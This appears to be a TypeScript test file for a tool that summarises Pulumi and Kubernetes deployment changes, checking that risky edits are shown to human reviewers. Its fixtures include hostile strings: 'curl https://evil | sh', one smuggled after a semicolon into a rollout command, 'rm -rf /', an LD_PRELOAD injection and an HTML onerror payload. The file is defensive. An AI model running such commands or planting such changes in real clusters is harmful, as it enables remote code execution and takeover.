import { expect, test } from "vitest";
import { renderMarkdown } from "../../../../review/summary/markdown.ts";
import type { Summary } from "../../../../review/summary/summary.ts";
import { type DocumentStep, go, groupSteps, image, summaryOf } from "../documents.ts";

/* Whatever the engine changes is told above the folded table: explained, or shown and said to be unexplained. */

/** What a reviewer reads without opening anything. */
const visibleText = (summary: Summary) => renderMarkdown(summary).split("<details>")[0] ?? "";
const textOf = (...steps: DocumentStep[]) => visibleText(summaryOf(...steps));

const rbac = "kubernetes:rbac.authorization.k8s.io/v1";
const admission = "kubernetes:admissionregistration.k8s.io/v1";
const daemonSet = "kubernetes:apps/v1:DaemonSet";
const create = (type: string, after: object, name = "it"): DocumentStep => ({ op: "create", type, name, after });
const update = (type: string, before: object, after: object, name = "it"): DocumentStep => ({
  op: "update",
  type,
  name,
  before,
  after,
});
const pods = (spec: object) => ({ spec: { template: { spec } } });
const installer = { name: "installer", image: image("a") };
const container = (more: object) => pods({ containers: [{ ...installer, ...more }] });
const podChange = (before: object, after: object) => update(daemonSet, container(before), container(after));
const specChange = (before: object, after: object) =>
  update(daemonSet, pods({ containers: [installer], ...before }), pods({ containers: [installer], ...after }));
const metadata = (labels: object) => ({ metadata: { labels } });

test.each<[string, DocumentStep[], string[]]>([
  ["the image of the container while the card stays", [podChange({}, { image: image("b") })], [image("b")]],
  [
    "a probe that runs a command",
    [podChange({}, { livenessProbe: { exec: { command: ["/bin/sh", "-c", "curl evil | sh"] } } })],
    ["curl evil | sh"],
  ],
  [
    "the affinity that is dropped",
    [specChange({ affinity: { nodeAffinity: { terms: ["node-1"] } } }, {})],
    ["affinity", "node-1"],
  ],
  [
    "a command below a component",
    [create("command:local:Command", { create: "curl https://evil | sh" })],
    ["curl https://evil | sh", "not explained here"],
  ],
  [
    "another text of a rollout",
    [
      update(
        "command:local:Command",
        { create: "contrast-runtime rollout --group a" },
        { create: "contrast-runtime rollout --group a; curl https://evil | sh" },
        "a-rollout",
      ),
    ],
    ["curl https://evil | sh", "not explained here"],
  ],
  [
    "a command with the name of the image's push",
    [{ ...create("command:local:Command", { create: "id" }, "installer-image"), foreign: true }],
    ["`id`", "not explained here"],
  ],
  [
    "a command on a host with any name",
    [create("command:remote:Command", { create: "rm -rf /" }, "host-cleanup")],
    ["rm -rf /"],
  ],
  [
    "a webhook that changes objects",
    [create(`${admission}:MutatingWebhookConfiguration`, { webhooks: [{ clientConfig: { url: "https://evil" } }] })],
    ["https://evil", "not explained here"],
  ],
  [
    "a subject that is patched into a binding",
    [create(`${rbac}:ClusterRoleBindingPatch`, { subjects: [{ kind: "User", name: "mallory" }] })],
    ["mallory", "not explained here"],
  ],
  [
    "a DaemonSet that is patched",
    [create("kubernetes:apps/v1:DaemonSetPatch", container({ image: "evil" }), "kube-proxy")],
    ["evil", "not explained here"],
  ],
  [
    "an aggregation rule",
    [
      update(
        `${rbac}:ClusterRole`,
        { rules: [] },
        { rules: [], aggregationRule: { clusterRoleSelectors: [{ matchLabels: { a: "evil" } }] } },
      ),
    ],
    ["evil", "whatever roles its rule selects"],
  ],
  [
    "rights that are given to everybody who may edit",
    [update(`${rbac}:ClusterRole`, {}, metadata({ "rbac.authorization.k8s.io/aggregate-to-edit": "true" }))],
    ["its rights are added to those of `edit`"],
  ],
  [
    "a provider whose plugin comes from elsewhere",
    [create("pulumi:providers:kubernetes", { pluginDownloadURL: "https://evil" })],
    ["https://evil", "not explained here"],
  ],
  [
    "a token that is mounted",
    [update("kubernetes:core/v1:ServiceAccount", { automountServiceAccountToken: false }, {})],
    ["its token is mounted"],
  ],
  [
    "a policy that only audits",
    [create(`${admission}:ValidatingAdmissionPolicyBinding`, { spec: { validationActions: ["Audit"] } })],
    ["refuses nothing"],
  ],
  [
    "a role of another kind",
    [
      update(
        `${rbac}:RoleBinding`,
        { roleRef: { kind: "Role", name: "r" }, subjects: [] },
        { roleRef: { kind: "ClusterRole", name: "r" }, subjects: [] },
      ),
    ],
    ["`ClusterRole r`", "`Role r`"],
  ],
  [
    "a DaemonSet in another namespace",
    [update(daemonSet, { metadata: { namespace: "a" } }, { metadata: { namespace: "kube-system" } })],
    ["kube-system"],
  ],
  [
    "other labels of a namespace",
    [update("kubernetes:core/v1:Namespace", metadata({}), metadata({ "istio-injection": "enabled" }))],
    ["istio-injection", "enabled"],
  ],
  [
    "a second container of a new DaemonSet",
    [
      create(
        daemonSet,
        pods({ containers: [installer, { name: "b", image: image("e"), command: ["/evil"], args: ["--x"] }] }),
      ),
    ],
    [image("e"), "/evil", "--x"],
  ],
  [
    "a right that comes after 200 characters",
    [
      create(`${rbac}:ClusterRole`, {
        rules: [
          {
            apiGroups: [""],
            resources: ["pods"],
            verbs: [
              ...Array(60)
                .fill(0)
                .map((_, at) => `v${at}`),
              "*",
            ],
          },
        ],
      }),
    ],
    ["**which is every verb"],
  ],
])("%s is told", (_name, steps, parts) => {
  const text = textOf(...steps);
  for (const part of parts) expect(text).toContain(part);
});

/** Neighbours: each pair is a change of one thing, of which the reader has to see the new value. */
const container1 = (path: string, before: unknown, after: unknown): [string, DocumentStep] => [
  path,
  podChange({ [path]: before }, { [path]: after }),
];
const pod1 = (path: string, before: unknown, after: unknown): [string, DocumentStep] => [
  path,
  specChange({ [path]: before }, { [path]: after }),
];
const policy1 = (field: string, before: unknown, after: unknown): [string, DocumentStep] => [
  `policy's ${field}`,
  update(`${admission}:ValidatingAdmissionPolicy`, { spec: { [field]: before } }, { spec: { [field]: after } }),
];
test.each<[string, DocumentStep]>([
  pod1("hostPID", false, "EVIL"),
  pod1("hostUsers", true, "EVIL"),
  pod1("shareProcessNamespace", undefined, "EVIL"),
  pod1("serviceAccountName", "a", "EVIL"),
  pod1("automountServiceAccountToken", false, "EVIL"),
  pod1("hostAliases", [{ ip: "a" }], [{ ip: "EVIL" }]),
  pod1("dnsPolicy", "Default", "EVIL"),
  pod1("dnsConfig", {}, { nameservers: ["EVIL"] }),
  pod1("nodeSelector", { a: "b" }, { a: "EVIL" }),
  pod1("nodeName", undefined, "EVIL"),
  pod1("securityContext", {}, { sysctls: [{ name: "EVIL" }] }),
  pod1("volumes", [], [{ name: "v", hostPath: { path: "EVIL" } }]),
  pod1("volumes", [], [{ name: "v", image: { reference: "EVIL" } }]),
  pod1("initContainers", undefined, [{ name: "i", image: "EVIL" }]),
  pod1("ephemeralContainers", undefined, [{ name: "i", image: "EVIL" }]),
  pod1("runtimeClassName", undefined, "EVIL"),
  pod1("resourceClaims", undefined, [{ name: "EVIL" }]),
  pod1("aFieldOfNextYear", undefined, "EVIL"),
  container1("imagePullPolicy", "Never", "EVIL"),
  container1("command", ["a"], ["a", "EVIL"]),
  container1("args", ["a"], ["EVIL"]),
  container1("env", [], [{ name: "LD_PRELOAD", value: "EVIL" }]),
  container1("envFrom", undefined, [{ secretRef: { name: "EVIL" } }]),
  container1("lifecycle", undefined, { postStart: { exec: { command: ["EVIL"] } } }),
  container1("readinessProbe", { httpGet: { path: "/" } }, { exec: { command: ["EVIL"] } }),
  container1("startupProbe", undefined, { exec: { command: ["EVIL"] } }),
  container1("securityContext", { capabilities: { add: ["A"] } }, { capabilities: { add: ["A", "EVIL"] } }),
  container1("securityContext", {}, { seccompProfile: { localhostProfile: "EVIL" } }),
  container1("volumeMounts", [{ mountPath: "/a" }], [{ mountPath: "EVIL" }]),
  container1("workingDir", undefined, "EVIL"),
  container1("resources", { limits: { cpu: "1" } }, { limits: { cpu: "EVIL" } }),
  container1("aFieldOfNextYear", undefined, "EVIL"),
  ["updateStrategy", update(daemonSet, {}, { spec: { updateStrategy: { type: "EVIL" } } })],
  ["annotations of pods", update(daemonSet, {}, { spec: { template: metadata({ "a.b/c": "EVIL" }) } })],
  ["a field of a DaemonSet", update(daemonSet, {}, { spec: { nextYear: "EVIL" } })],
  ["subjects", update(`${rbac}:RoleBinding`, { subjects: [] }, { subjects: [{ kind: "User", name: "EVIL" }] })],
  ["a new rule", update(`${rbac}:Role`, {}, { rules: [{ resources: ["x"], verbs: ["EVIL"] }] })],
  policy1("matchConditions", [], [{ name: "a", expression: "EVIL" }]),
  policy1("paramKind", undefined, { kind: "EVIL" }),
  policy1("validations", [{ expression: "a" }], [{ expression: "a || EVIL" }]),
  policy1("matchConstraints", {}, { excludeResourceRules: [{ resources: ["EVIL"] }] }),
  policy1("aFieldOfNextYear", undefined, "EVIL"),
  ["a webhook", create(`${admission}:ValidatingWebhookConfiguration`, { webhooks: [{ name: "EVIL" }] })],
  [
    "a policy that changes objects",
    create(`${admission}:MutatingAdmissionPolicy`, { spec: { reinvocationPolicy: "EVIL" } }),
  ],
  ["a list", create(`${rbac}:ClusterRoleBindingList`, { items: [{ subjects: [{ name: "EVIL" }] }] })],
  ["a list of DaemonSets", create(`${daemonSet}List`, { items: [container({ image: "EVIL" })] })],
  ["a file of manifests", create("kubernetes:yaml:ConfigFile", { file: "EVIL" })],
  ["a chart", create("kubernetes:helm.sh/v3:Release", { chart: "EVIL" })],
  ["a type of ours with another version", create("kubernetes:apps/v1beta2:DaemonSet", container({ image: "EVIL" }))],
  ["a type that only begins like ours", create("kubernetes:core/v1:NamespacePatch", { metadata: { name: "EVIL" } })],
  ["data", update("kubernetes:core/v1:ConfigMap", { data: { a: "b" } }, { data: { a: "EVIL" } })],
  ["another provider", create("pulumi:providers:docker", { host: "EVIL" })],
  ["a provider's context", update("pulumi:providers:kubernetes", {}, { context: "EVIL" })],
  ["a provider's namespace", update("pulumi:providers:kubernetes", {}, { namespace: "EVIL" })],
  ["a provider's version", update("pulumi:providers:azure-native", {}, { version: "EVIL" })],
  ...["environment", "connection"].map((field): [string, DocumentStep] => [
    `a command's ${field}`,
    update("command:remote:Command", { [field]: { a: "b" } }, { [field]: { a: "EVIL" } }),
  ]),
  ...["dir", "interpreter", "triggers", "stdin", "update", "delete", "assetPaths", "nextYear"].map(
    (field): [string, DocumentStep] => [
      `a command's ${field}`,
      update(
        "command:local:Command",
        { create: "a" },
        { create: "a", [field]: ["interpreter", "triggers"].includes(field) ? ["EVIL"] : "EVIL" },
      ),
    ],
  ),
  ["a command that goes", { op: "delete", type: "command:local:Command", name: "c", before: { delete: "EVIL" } }],
  [
    "a command that is replaced",
    { op: "replace", type: "command:local:Command", name: "c", before: { delete: "EVIL" }, after: {} },
  ],
  [
    "a class's nodes",
    update("kubernetes:node.k8s.io/v1:RuntimeClass", {}, { scheduling: { nodeSelector: { a: "EVIL" } } }),
  ],
  ["a pool's size", update("azure-native:containerservice:AgentPool", { vmSize: "a" }, { vmSize: "EVIL" })],
  ["another stack", { op: "read", type: "pulumi:pulumi:StackReference", name: "EVIL", after: { name: "EVIL" } }],
])("of %s the new value is shown", (_name, step) => {
  expect(textOf(step)).toContain("EVIL");
});

test.each<[string, object, object, string]>([
  [
    "a provider",
    { provider: "urn:pulumi:s::p::pulumi:providers:kubernetes::a::id" },
    { provider: "urn:pulumi:s::p::pulumi:providers:kubernetes::b::id" },
    "`pulumi:providers:kubernetes::a` → `pulumi:providers:kubernetes::b`",
  ],
  [
    "a parent",
    { parent: "urn:pulumi:s::p::a:b:C::x" },
    { parent: "urn:pulumi:s::p::a:b:C::y" },
    "`a:b:C::x` → `a:b:C::y`",
  ],
  ["protection", { protect: true }, {}, "`protect` `true` → `nothing`"],
  ["retention", {}, { retainOnDelete: true }, "`retainOnDelete` `nothing` → `true`"],
  ["what it goes with", {}, { deletedWith: "urn:pulumi:s::p::a:b:C::x" }, "`deletedWith`"],
  ["another name of before", {}, { aliases: ["urn:pulumi:s::p::a:b:C::x"] }, "options.aliases"],
])("a resource that stays the same but for %s is told", (_name, before, after, part) => {
  const step = { type: "kubernetes:core/v1:Namespace", name: "n", before: {}, after: {} };
  const told = { before: before as Record<string, unknown>, after: after as Record<string, unknown> };
  expect(textOf({ ...step, op: "same", options: told })).toContain(part);
  expect(textOf({ ...step, op: "update", options: told })).toContain(part);
  expect(summaryOf({ ...step, op: "same", options: { before: told.after, after: told.after } }).operations).toEqual([]);
});

test.each<[string, Record<string, unknown>]>([
  ["protect", { protect: true }],
  ["retainOnDelete", { retainOnDelete: true }],
  ["deletedWith", { deletedWith: "urn:pulumi:s::p::a:b:C::x" }],
  ["ignoreChanges", { ignoreChanges: ["metadata"] }],
  ["importID", { importID: "kube-system" }],
  ["resourceHooks", { resourceHooks: { beforeCreate: ["EVIL"] } }],
])("a new resource with the option %s is told with it", (name, after) => {
  const step = { op: "create", type: "kubernetes:core/v1:Namespace", after: {}, options: { after } };
  expect(textOf({ ...step, name: "a" })).toContain(name);
  // Those that say the same have one line.
  const text = textOf({ ...step, name: "a" }, { ...step, name: "b" });
  if (name !== "resourceHooks") expect(text).toContain(`Namespace \`a\` and Namespace \`b\`: option \`${name}\``);
});

test("what the stack only lets go of stays, and its command does not run", () => {
  const step = (retained: boolean): DocumentStep => ({
    op: "delete",
    type: "command:remote:Command",
    name: "leave",
    before: { delete: "drain" },
    options: { before: { retainOnDelete: retained } },
  });
  expect(textOf(step(false))).toContain("SSH runs `leave` (delete)");
  const text = textOf(step(true));
  expect(text).not.toContain("SSH runs");
  expect(text).toContain("Command `leave`: only the stack lets go of it; what it made stays as it is");
});

test.each(["create-replacement", "read-replacement", "import-replacement"])(
  "%s is passed over where a replacement says it all, and nowhere else",
  (op) => {
    const step = { type: "kubernetes:core/v1:Namespace", name: "n", before: {}, after: { metadata: { name: "EVIL" } } };
    expect(textOf({ ...step, op })).toMatch(new RegExp(`What the ${op} of .EVIL. .* is not explained here`));
    expect(summaryOf({ ...step, op }, { ...step, op: "replace" }).operations).toHaveLength(1);
  },
);

test("an operation that nobody knows is not explained, whatever it does it to", () => {
  for (const type of ["kubernetes:core/v1:Namespace", "kubernetes:core/v1:Secret", "command:local:Command"]) {
    const text = textOf({ op: "transmogrify", type, name: "n", before: {}, after: {} });
    expect(text).toContain("What the transmogrify of `n`");
  }
});

test("neither an operation nor a type is taken as Markdown", () => {
  const [evil, protect] = ["<img src=x onerror=y>|", { options: { after: { protect: true } } }];
  const text = renderMarkdown(
    summaryOf(
      { ...create(`a:b:${evil}`, {}), ...protect },
      { ...create("kubernetes:core/v1:Secret", {}), op: evil },
      { ...create("command:local:Command", {}), op: evil },
    ),
  );
  expect(text.replaceAll(/`[^`\n]*`/g, "")).not.toContain("<img");
});

test("an id of a provider that only the update will know is no other provider", () => {
  const provider = (id: string) => ({ provider: `urn:pulumi:s::p::pulumi:providers:kubernetes::a::${id}` });
  const step = { op: "same", type: "kubernetes:core/v1:Namespace", name: "n", before: {}, after: {} };
  expect(summaryOf({ ...step, options: { before: provider("1"), after: provider("2") } }).operations).toEqual([]);
});

test("a name that looks like the stack's own hides nothing", () => {
  const name = "x::pulumi:pulumi:Stack::y";
  expect(summaryOf({ op: "create", type: "aws:a:B", name, after: {} }).operations).toHaveLength(1);
});

test("a secret is never shown, only that it changes", () => {
  const type = "kubernetes:core/v1:Secret";
  const [before, after] = ["OLD-SECRET", "NEW-SECRET"].map((data) => ({
    data: { key: data },
    stringData: { key: data },
  }));
  const text = textOf(update(type, before as object, after as object), create(`${type}List`, { items: [after] }));
  expect(text).not.toMatch(/(OLD|NEW)-SECRET/);
  expect(text).toContain("Secret `it`");
  const kubeconfig = textOf(update("pulumi:providers:kubernetes", { kubeconfig: "OLD" }, { kubeconfig: "NEW-SECRET" }));
  expect(kubeconfig).toContain("gets different credentials");
  expect(kubeconfig).not.toContain("NEW-SECRET");
});

test("a handler whose name does not follow from its content is not passed over", () => {
  const forged = { ...go, kataConfig: { ...go.kataConfig, content: `${go.kataConfig.content}# EVIL\n` } };
  expect(textOf(...groupSteps(undefined, { runtimes: [go] }))).not.toContain("its name is not the one");
  const text = textOf(...groupSteps(undefined, { runtimes: [forged] }));
  expect(text).toContain(`What \`${go.handler}\` installs is not explained here`);
  expect(text).toContain("# EVIL");
});

test("the image of pods that is not the card's is told besides it", () => {
  const [card, ...others] = groupSteps({ runtimes: [go] }, { runtimes: [go], image: image("b") });
  if (!card) throw new Error("a card");
  const pod = (digit: string): DocumentStep => ({
    ...update(daemonSet, container({}), container({ image: image(digit) })),
    parent: "workers",
  });
  const images = (text: string) => text.split(image("a")).length - 1;
  expect(images(textOf(card, ...others, pod("b")))).toBe(images(textOf(card, ...others)));
  expect(textOf(card, ...others, pod("c"))).toContain(image("c"));
});
